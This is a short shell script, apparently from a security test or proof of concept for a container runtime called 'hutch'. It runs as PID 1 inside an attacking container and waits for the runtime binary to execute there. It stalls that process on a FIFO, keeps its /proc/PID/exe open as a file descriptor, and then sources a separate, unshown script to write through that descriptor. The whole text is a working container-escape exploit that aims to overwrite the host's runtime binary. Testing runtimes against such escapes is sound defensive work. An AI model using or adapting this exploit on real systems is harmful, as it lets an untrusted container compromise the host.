# Pid 1 of the attacking container: waits until a hutch binary runs inside
# (an exec of /proc/self/exe that blocks opening its --log FIFO), keeps its
# /proc/PID/exe open as fd 9, lets it go on, then tries to write through fd 9.
mkfifo /dev/shm/block
while :; do
  for p in /proc/[0-9]*; do
    case "$(tr '\0' ' ' <"$p/cmdline" 2>/dev/null)" in
    *"--log /dev/shm/block"*)
      # (a failed redirection of exec would end this shell: try it in a subshell first)
      if (exec 9<"$p/exe") 2>/dev/null; then
        exec 9<"$p/exe"
        cat /dev/shm/block >/dev/null &
        . /exe_write.sh
        sleep 1000
      fi
      ;;
    esac
  done 2>/dev/null
  sleep 0.01
done
